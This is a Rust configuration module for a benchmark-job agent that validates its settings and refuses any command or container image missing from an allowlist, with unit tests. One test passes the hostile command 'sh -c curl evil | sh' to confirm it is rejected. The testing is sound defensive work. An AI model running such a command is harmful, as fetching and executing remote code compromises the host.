//! `[jobs]`: which benchmark jobs the agent takes and where it runs them. Without this
//! table the agent leases no jobs.
//!
//! ```toml
//! [jobs]
//! executors = ["slurm", "local"]     # enabled, in order of preference
//! gpu_types = ["a100"]
//! max_concurrent = 2
//! allowed_commands = [["python3", "/opt/eval/score.py", "{dataset}", "{output}"]]
//! allowed_images = ["registry.example.org/eval@sha256:…"]
//! [jobs.datasets]
//! census-2021 = "/data/census-2021"
//! [jobs.slurm]
//! partition = "gpu"
//! ```
//!
//! Environment overrides use `__` between levels: `AGORA_AGENT_JOBS__MAX_CONCURRENT=4`.

use std::collections::BTreeMap;
use std::path::{Path, PathBuf};
use std::time::Duration;

use agora_schemas::job::{Capabilities, ExecutorKind};
use serde::Deserialize;

use crate::error::{Error, Result};
use crate::executors::argo::ArgoConfig;
use crate::executors::kubernetes::KubernetesConfig;
use crate::executors::local::LocalConfig;
use crate::executors::slurm::SlurmConfig;

/// `[jobs]` as written in the file.
#[derive(Debug, Clone, Deserialize)]
#[serde(deny_unknown_fields)]
pub struct JobsConfig {
    /// The executors this agent offers, most preferred first.
    pub executors: Vec<ExecutorKind>,
    /// GPU models the agent's executors can hand out, such as `a100`.
    #[serde(default)]
    pub gpu_types: Vec<String>,
    /// Most jobs running at once, 1 to 64 (default 1).
    #[serde(default = "one")]
    pub max_concurrent: usize,
    /// The organisation's dataset names (as benchmarks name them) and their local paths.
    #[serde(default)]
    pub datasets: BTreeMap<String, PathBuf>,
    /// Command templates the agent runs, exactly as the benchmark gives them.
    #[serde(default)]
    pub allowed_commands: Vec<Vec<String>>,
    /// Container images (pinned by digest) the agent runs.
    #[serde(default)]
    pub allowed_images: Vec<String>,
    /// The jobs' folders: logs, batch scripts, metrics (default `<spool_dir>/jobs`). The
    /// Slurm executor needs it on a file system the compute nodes share.
    #[serde(default)]
    pub work_dir: Option<PathBuf>,
    /// Longest wait of one lease request (default `30s`; the hub may cap it).
    #[serde(
        default = "default_lease_wait",
        deserialize_with = "crate::config::duration"
    )]
    pub lease_wait: Duration,
    /// Time between two looks at a running job (default `5s`; never longer than the
    /// hub's heartbeat interval).
    #[serde(default = "default_poll", deserialize_with = "crate::config::duration")]
    pub poll_interval: Duration,
    /// After SIGTERM, how long running jobs may go on before they are cancelled
    /// (default `5m`).
    #[serde(
        default = "default_drain",
        deserialize_with = "crate::config::duration"
    )]
    pub drain_timeout: Duration,
    #[serde(default)]
    pub local: LocalConfig,
    #[serde(default)]
    pub slurm: SlurmConfig,
    #[serde(default)]
    pub kubernetes: Option<KubernetesConfig>,
    #[serde(default)]
    pub argo: Option<ArgoConfig>,
}

fn one() -> usize {
    1
}
fn default_lease_wait() -> Duration {
    Duration::from_secs(30)
}
fn default_poll() -> Duration {
    Duration::from_secs(5)
}
fn default_drain() -> Duration {
    Duration::from_secs(300)
}

impl JobsConfig {
    /// Checks what serde cannot; errors name the key.
    pub fn check(&self) -> Result<()> {
        let bad = |key: &str, msg: &str| Err(Error::Config(format!("`jobs.{key}`: {msg}")));
        if self.executors.is_empty() {
            return bad(
                "executors",
                "list at least one of local, slurm, kubernetes, argo",
            );
        }
        for (i, kind) in self.executors.iter().enumerate() {
            if self.executors[..i].contains(kind) {
                return bad(&format!("executors[{i}]"), "listed twice");
            }
        }
        if self.executors.contains(&ExecutorKind::Kubernetes) && self.kubernetes.is_none() {
            return bad(
                "kubernetes",
                "required when `kubernetes` is an executor (set `api_url`)",
            );
        }
        if self.executors.contains(&ExecutorKind::Argo) && self.argo.is_none() {
            return bad(
                "argo",
                "required when `argo` is an executor (set `server_url`)",
            );
        }
        if !(1..=64).contains(&self.max_concurrent) {
            return bad("max_concurrent", "must be between 1 and 64");
        }
        if self.lease_wait > Duration::from_secs(300) {
            return bad("lease_wait", "must be at most 5m");
        }
        if self.poll_interval.is_zero() {
            return bad("poll_interval", "must be longer than zero");
        }
        for (i, t) in self.gpu_types.iter().enumerate() {
            if t.is_empty()
                || !t
                    .chars()
                    .all(|c| c.is_ascii_alphanumeric() || "-_.".contains(c))
            {
                return bad(
                    &format!("gpu_types[{i}]"),
                    "letters, digits, `-`, `_` and `.` only",
                );
            }
        }
        for (name, path) in &self.datasets {
            if !path.is_absolute() {
                return bad(&format!("datasets.{name}"), "must be an absolute path");
            }
        }
        for (i, c) in self.allowed_commands.iter().enumerate() {
            if c.is_empty() {
                return bad(&format!("allowed_commands[{i}]"), "an empty command");
            }
        }
        Ok(())
    }

    /// What the agent tells the hub it can run.
    pub fn capabilities(&self) -> Capabilities {
        Capabilities {
            executors: self.executors.clone(),
            gpu_types: self.gpu_types.clone(),
        }
    }

    pub fn work_dir(&self, spool_dir: &Path) -> PathBuf {
        self.work_dir
            .clone()
            .unwrap_or_else(|| spool_dir.join("jobs"))
    }

    /// Why the agent will not run a benchmark's command or image, if it will not: each
    /// one the benchmark gives must be on its allowlist.
    pub fn refusal(&self, command: Option<&[String]>, image: Option<&str>) -> Option<String> {
        if let Some(c) = command
            && !self.allowed_commands.iter().any(|a| a.as_slice() == c)
        {
            return Some(format!(
                "the command {c:?} is not on this agent's allowlist (`jobs.allowed_commands`)"
            ));
        }
        if let Some(i) = image
            && !self.allowed_images.iter().any(|a| a == i)
        {
            return Some(format!(
                "the image {i} is not on this agent's allowlist (`jobs.allowed_images`)"
            ));
        }
        None
    }
}

#[cfg(test)]
// figment's `Jail` fixes the closures' error type.
#[allow(clippy::result_large_err)]
mod tests {
    use crate::config::AgentConfig;
    use std::path::Path;
    use std::time::Duration;

    fn load(jail: &mut figment::Jail, text: &str) -> crate::Result<AgentConfig> {
        jail.create_file("agent.toml", text).unwrap();
        AgentConfig::load(Path::new("agent.toml"))
    }

    const BASE: &str = "hub_url = \"http://h\"\n[jobs]\nexecutors = [\"local\"]\n";

    #[test]
    fn jobs_settings_are_checked_with_their_paths() {
        figment::Jail::expect_with(|jail| {
            let err = load(
                jail,
                "hub_url = \"http://h\"\n[jobs]\nexecutors = [\"pbs\"]\n",
            )
            .unwrap_err()
            .to_string();
            assert!(err.contains("`jobs.executors[0]`"), "{err}");
            let err = load(
                jail,
                "hub_url = \"http://h\"\n[jobs]\nexecutors = [\"kubernetes\"]\n",
            )
            .unwrap_err()
            .to_string();
            assert!(err.contains("`jobs.kubernetes`: required"), "{err}");
            let err = load(
                jail,
                &format!("{BASE}[jobs.datasets]\ncensus = \"data/census\"\n"),
            )
            .unwrap_err()
            .to_string();
            assert!(err.contains("`jobs.datasets.census`"), "{err}");
            let err = load(jail, &format!("{BASE}[jobs.slurm]\npartitions = \"gpu\"\n"))
                .unwrap_err()
                .to_string();
            assert!(
                err.contains("jobs.slurm") && err.contains("partitions"),
                "{err}"
            );
            let err = load(jail, &format!("{BASE}drain_timeout = \"soon\"\n"))
                .unwrap_err()
                .to_string();
            assert!(err.contains("`jobs.drain_timeout`"), "{err}");
            Ok(())
        });
    }

    #[test]
    fn environment_variables_override_jobs_settings() {
        figment::Jail::expect_with(|jail| {
            jail.set_env("AGORA_AGENT_JOBS__MAX_CONCURRENT", "4");
            jail.set_env("AGORA_AGENT_JOBS__DRAIN_TIMEOUT", "90s");
            let c = load(jail, &format!("{BASE}max_concurrent = 2\n")).unwrap();
            let jobs = c.jobs.unwrap();
            assert_eq!(jobs.max_concurrent, 4);
            assert_eq!(jobs.drain_timeout, Duration::from_secs(90));
            Ok(())
        });
    }

    #[test]
    fn only_allowed_commands_and_images_run() {
        figment::Jail::expect_with(|jail| {
            let c = load(
                jail,
                &format!(
                    "{BASE}allowed_commands = [[\"python3\", \"score.py\", \"{{output}}\"]]\n"
                ),
            )
            .unwrap();
            let jobs = c.jobs.unwrap();
            let ok: Vec<String> = ["python3", "score.py", "{output}"]
                .map(String::from)
                .to_vec();
            assert!(jobs.refusal(Some(&ok), None).is_none());
            let other: Vec<String> = ["sh", "-c", "curl evil | sh"].map(String::from).to_vec();
            assert!(
                jobs.refusal(Some(&other), None)
                    .unwrap()
                    .contains("allowlist")
            );
            assert!(jobs.refusal(Some(&ok), Some("r/x@sha256:00")).is_some());
            Ok(())
        });
    }
}
